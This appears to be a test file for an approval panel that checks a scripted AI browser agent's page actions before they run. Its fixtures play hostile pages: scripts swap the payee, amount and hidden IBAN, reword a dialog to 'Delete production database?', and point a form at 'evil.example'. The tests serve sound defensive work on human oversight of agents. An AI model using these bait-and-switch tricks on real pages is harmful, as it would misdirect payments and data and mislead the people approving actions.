import { mkdirSync } from 'node:fs';
import { type ScriptedReply, propose, say } from '@assent/relay/testing';
import { expect, test } from 'vitest';
import { type ModelView, look } from './script-model.ts';
import { type Assent, startAssent } from './start-assent.ts';

// Batches in the real panel: what keys and presses do before the last consequential row has been in view.
const SHOTS = '/tmp/h/card.shots';
mkdirSync(SHOTS, { recursive: true });

const COUNT = 10;
const LONG_FORM = `<form onsubmit="event.preventDefault();window.did=(window.did||0)+1">${Array.from({ length: COUNT }, (_, i) => `<label>Field ${i} <input name=f${i} value=old${i}></label><br>`).join('')}<button>Send payment</button></form>`;

async function withPage(html: string, reply: (view: ModelView, request: number) => ScriptedReply, options: Partial<Parameters<typeof startAssent>[0]> = {}): Promise<Assent> {
  let count = 0;
  const assent = await startAssent({
    page: 'search',
    ...options,
    script: request => {
      const view = look(request);
      try {
        return reply(view, count++);
      } catch (thrown) {
        return say(`SCRIPT ${String(thrown)}`);
      }
    },
  });
  await assent.page.route(/\/search/u, route => route.fulfill({ contentType: 'text/html; charset=utf-8', body: `<!doctype html><meta charset=utf-8><title>Case</title>${html}` }));
  await assent.page.goto(`${assent.site.origin}/search?x`);
  await assent.panel.page.setViewportSize({ width: 360, height: 640 });
  await assent.page.waitForTimeout(150);
  return assent;
}

const fillAndSend = (view: ModelView, at: number): ScriptedReply => {
  if (at > 0) return say('ok');
  const fills = Array.from({ length: COUNT }, (_, i) => ({ action: 'fill', target: { elementId: view.element(new RegExp(`input: Field ${i}\\b`, 'u')) }, params: { value: `new ${i}` } }));
  return propose('page_action', { actions: [...fills, { action: 'click', target: { elementId: view.element(/Send payment/u) }, params: {} }] });
};

const did = ({ page }: Assent) => page.evaluate('window.did ?? 0');
const values = ({ page }: Assent) => page.evaluate('[...document.querySelectorAll("input")].filter(i => i.value.startsWith("new")).length');

test('keys and presses before the last row was in view run nothing; after it they run', async () => {
  const assent = await withPage(LONG_FORM, fillAndSend);
  const { panel } = assent;
  await panel.ask('Go');
  const card = panel.page.getByRole('alertdialog');
  await card.waitFor();
  await panel.page.waitForTimeout(900);
  await panel.page.screenshot({ path: `${SHOTS}/batch-top.png` });
  const top = await card.innerText();
  expect(top).toMatch(/more rows? below/u);
  const { keyboard } = panel.page;
  await keyboard.press('F6');
  await keyboard.press('Control+Enter');
  await panel.approveButton.focus();
  await keyboard.press('Enter');
  await keyboard.press('Space');
  await panel.approveButton.click({ force: true });
  await panel.approveButton.dblclick({ force: true });
  await panel.page.waitForTimeout(500);
  expect(await values(assent)).toBe(0);
  // Bigger panel: all rows in view at once, so Approve must be open, without any further look.
  await panel.page.setViewportSize({ width: 360, height: 2200 });
  await panel.page.waitForTimeout(700);
  expect(await panel.approveButton.getAttribute('aria-disabled')).toBe('false');
  await panel.page.setViewportSize({ width: 320, height: 500 });
  await panel.page.waitForTimeout(700);
  await panel.page.screenshot({ path: `${SHOTS}/batch-320.png` });
  await panel.approveButton.click();
  await expect.poll(() => did(assent)).toBe(1);
});

test('scrolled past by End key and by the footer button; key repeat does not approve', async () => {
  const assent = await withPage(LONG_FORM, fillAndSend);
  const { panel } = assent;
  await panel.ask('Go');
  const card = panel.page.getByRole('alertdialog');
  await card.waitFor();
  await panel.page.waitForTimeout(900);
  await panel.page.keyboard.press('F6');
  const more = panel.page.getByRole('button', { name: /more rows? below/u });
  for (let i = 0; i < 6 && (await more.count()); i += 1) {
    await more.focus();
    await panel.page.keyboard.press('Enter');
    await panel.page.waitForTimeout(250);
  }
  await panel.page.screenshot({ path: `${SHOTS}/batch-end.png` });
  expect(await panel.approveButton.getAttribute('aria-disabled')).toBe('false');
  await panel.approveButton.focus();
  await panel.page.keyboard.down('Enter');
  expect(await values(assent)).toBeLessThanOrEqual(COUNT);
  await panel.page.keyboard.up('Enter');
  await expect.poll(() => did(assent)).toBe(1);
});

test('a held Ctrl+Enter that began in the composer approves nothing', async () => {
  const assent = await withPage('<button onclick="window.did=1">Pay</button>', (view, at) => (at > 0 ? say('ok') : propose('page_action', { actions: [{ action: 'click', target: { elementId: view.element(/Pay/u) }, params: {} }] })));
  const { panel } = assent;
  await panel.page.getByRole('textbox').first().fill('Go');
  await panel.page.keyboard.down('Control');
  await panel.page.keyboard.down('Enter');
  const until = Date.now() + 2_500;
  while (Date.now() < until) {
    await panel.page.keyboard.down('Enter');
    await panel.page.waitForTimeout(40);
  }
  await panel.page.keyboard.up('Enter');
  await panel.page.keyboard.up('Control');
  expect(await did(assent)).toBe(0);
});

test('zoom of 200 %: the footer leaves room for rows, and nothing is cut', async () => {
  const assent = await withPage(LONG_FORM, fillAndSend);
  const { panel } = assent;
  await panel.ask('Go');
  await panel.page.getByRole('alertdialog').waitFor();
  await panel.page.setViewportSize({ width: 180, height: 400 });
  await panel.page.waitForTimeout(700);
  await panel.page.screenshot({ path: `${SHOTS}/batch-zoom.png` });
  const room = await panel.page.evaluate(`(() => { const m = document.querySelector('main').getBoundingClientRect(); const f = document.querySelector('[data-footer]').getBoundingClientRect(); return { main: m.height, footer: f.height, sticky: getComputedStyle(document.querySelector('[data-footer]')).position, wide: document.querySelector('main').scrollWidth - document.querySelector('main').clientWidth }; })()`);
  console.log('@@zoom', JSON.stringify(room));
  await panel.page.evaluate("[...document.querySelectorAll('li[data-row]')].at(-1).scrollIntoView()");
  await panel.page.waitForTimeout(500);
  await panel.page.screenshot({ path: `${SHOTS}/batch-zoom-end.png` });
  expect(await panel.approveButton.getAttribute('aria-disabled')).toBe('false');
});

const REFUNDS = `<table>${[1, 2, 3].map(i => `<tr><td>Order 104${i}<td>${['', 'Ada Lovelace', 'Grace Hopper', 'Alan Turing'][i]}<td><button onclick="window.did=(window.did||'')+'${i}'">Refund</button>`).join('')}</table>`;
const bothRefunds = (view: ModelView, at: number): ScriptedReply =>
  at > 0 ? say('ok') : propose('page_action', { actions: view.elements(/Refund/u).slice(0, 3).map(elementId => ({ action: 'click', target: { elementId }, params: {} })) });

test('equal rows are told apart for screen readers too', async () => {
  const assent = await withPage(REFUNDS, bothRefunds);
  const { panel } = assent;
  await panel.ask('Refund all');
  const card = panel.page.getByRole('alertdialog');
  await card.waitFor();
  await panel.page.screenshot({ path: `${SHOTS}/refunds.png` });
  const labels = await card.getByRole('checkbox').evaluateAll(all => all.map(box => box.getAttribute('aria-label')?.replace(/^Do \d+: /u, '')));
  const shows = await card.getByRole('button', { name: /^Show on page/u }).evaluateAll(all => all.map(box => box.getAttribute('aria-label')));
  console.log('@@labels', JSON.stringify(labels), JSON.stringify(shows));
  console.log('@@announced', JSON.stringify(await panel.page.locator('[aria-live], [role=status]').allInnerTexts()));
  expect(new Set(labels).size).toBe(labels.length);
  expect(new Set(shows).size).toBe(shows.length);
});

for (const language of ['en', 'zh'] as const)
  test(`asked again after an own row: says what changed, before → after (${language})`, async () => {
    const html = `<form onsubmit="event.preventDefault();window.did=1"><p id=payee>To: Bob Miller</p><label>Amount <input id=amount name=amount value=10></label><input type=hidden id=iban name=iban value=DE02120300000000202051><label>Note <input id=note name=note></label><button>Send</button></form><script>note.addEventListener('input',()=>{payee.textContent='To: Eve Mallory';amount.value='9999';iban.value='XX0000EVIL'})</script>`;
    const assent = await withPage(html, (view, at) => (at > 0 ? say('ok') : propose('page_action', { actions: [{ action: 'fill', target: { elementId: view.element(/^(?!.*Send).*Note/u) }, params: { value: 'Rent' } }, { action: 'click', target: { elementId: view.element(/Send/u) }, params: {} }] })), { language });
    const { panel } = assent;
    await panel.ask('Go');
    await panel.approve();
    await panel.page.getByText(language === 'en' ? /Already done/u : /之前已执行/u).first().waitFor();
    await panel.page.waitForTimeout(700);
    await panel.page.screenshot({ path: `${SHOTS}/again-${language}.png` });
    const card = panel.page.getByRole('alertdialog');
    const text = await card.innerText();
    console.log(`@@again ${language}`, text.replaceAll('\n', ' ⏎ '));
    for (const details of await card.locator('details').all()) await details.evaluate(e => { if (!e.querySelector('pre')) (e as HTMLDetailsElement).open = true; });
    const opened = await card.innerText();
    console.log(`@@again opened ${language}`, opened.replaceAll('\n', ' ⏎ '));
    await panel.page.screenshot({ path: `${SHOTS}/again-open-${language}.png` });
    expect(await did(assent)).toBe(0);
    expect.soft(opened, 'the new amount').toContain('9999');
    expect.soft(opened, 'the new hidden IBAN').toContain('XX0000EVIL');
    expect.soft(text, 'what changed, without opening anything').toMatch(/9999|Eve Mallory|XX0000EVIL|fields that go along|一并发送/u);
    expect.soft(opened, 'the former amount beside it').toMatch(/\b10\b[^]{0,20}9999/u);
    expect.soft(opened, 'the new payee').toContain('Eve Mallory');
  });

test('a field changes while the card is open: the card says from what to what', async () => {
  const html = `<form onsubmit="event.preventDefault();window.did=1"><label>Amount <input id=amount name=amount value=10></label><input type=hidden id=iban name=iban value=DE1><button>Send</button></form>`;
  const assent = await withPage(html, (view, at) => (at > 0 ? say('ok') : propose('page_action', { actions: [{ action: 'click', target: { elementId: view.element(/: Send/u) }, params: {} }] })));
  const { panel, page } = assent;
  await panel.ask('Go');
  const card = panel.page.getByRole('alertdialog');
  await card.waitFor();
  await panel.page.waitForTimeout(600);
  await page.evaluate("amount.value='9999'; iban.value='XX9EVIL'");
  await panel.page.waitForTimeout(2500);
  const text = await card.innerText();
  console.log('@@live', text.replaceAll('\n', ' ⏎ '));
  await panel.page.screenshot({ path: `${SHOTS}/live-change.png` });
  expect.soft(text).toMatch(/Just changed on the page: .*fields/u);
  await panel.approve();
  await panel.page.waitForTimeout(1500);
  console.log('@@live ran', await did(assent), (await panel.page.locator('main').innerText()).replaceAll('\n', ' ⏎ ').slice(-700));
});

test('a dialog question changes under an own row: the new card says the new question', async () => {
  const html = `<div role=dialog aria-labelledby=q><h2 id=q>Delete file 1?</h2><label>Reason <input id=note></label><button onclick="window.did=1">Delete</button></div><script>note.addEventListener('input',()=>{q.textContent='Delete production database?'})</script>`;
  const assent = await withPage(html, (view, at) => (at > 0 ? say('ok') : propose('page_action', { actions: [{ action: 'fill', target: { elementId: view.element(/Reason/u) }, params: { value: 'old' } }, { action: 'click', target: { elementId: view.element(/button: Delete/u) }, params: {} }] })));
  const { panel } = assent;
  await panel.ask('Go');
  await panel.approveButton.waitFor();
  const before = await panel.page.getByRole('alertdialog').innerText();
  expect.soft(before).toMatch(/Delete file 1\?/u);
  await panel.approve();
  await panel.page.getByText('Already done').first().waitFor();
  await panel.page.waitForTimeout(700);
  const text = await panel.page.getByRole('alertdialog').innerText();
  console.log('@@dialog', text.replaceAll('\n', ' ⏎ '));
  await panel.page.screenshot({ path: `${SHOTS}/again-dialog.png` });
  expect.soft(text).toMatch(/Delete production database/u);
  expect.soft(text, 'before → after').toMatch(/Delete file 1/u);
  expect(await did(assent)).toBe(0);
});

test('a name changes while the card waits, then Enter at once: it arms again', async () => {
  const assent = await withPage('<button id=t onclick="window.did=t.textContent">Save draft</button>', (view, at) => (at > 0 ? say('ok') : propose('page_action', { actions: [{ action: 'click', target: { elementId: view.element(/Save draft/u) }, params: {} }] })));
  const { panel, page } = assent;
  await panel.ask('Go');
  await panel.approveButton.waitFor();
  await panel.page.waitForTimeout(700);
  await panel.approveButton.focus();
  await page.evaluate("t.textContent='Delete everything'");
  await panel.page.getByText('Delete everything').first().waitFor();
  await panel.page.keyboard.press('Enter');
  await panel.page.waitForTimeout(150);
  expect(await did(assent)).toBe(0);
  const text = await panel.page.getByRole('alertdialog').innerText();
  console.log('@@renamed', text.replaceAll('\n', ' ⏎ '));
  expect.soft(text).toMatch(/It was called\s+Save draft/u);
});

test('a row is edited so that the last row moves: it must be seen again', async () => {
  const assent = await withPage(LONG_FORM, fillAndSend);
  const { panel, page } = assent;
  await panel.ask('Go');
  await panel.approveButton.waitFor();
  await panel.page.evaluate("[...document.querySelectorAll('li[data-row]')].at(-1).scrollIntoView()");
  await panel.page.waitForTimeout(600);
  expect(await panel.approveButton.getAttribute('aria-disabled')).toBe('false');
  await panel.page.evaluate("document.querySelector('main').scrollTop = 0");
  await page.evaluate("document.querySelector('form').action='https://evil.example/x'");
  await panel.page.waitForTimeout(1500);
  const state = await panel.approveButton.getAttribute('aria-disabled');
  console.log('@@reseen', state, (await panel.page.getByRole('alertdialog').innerText()).replaceAll('\n', ' ⏎ ').slice(-400));
  expect(state).toBe('true');
});
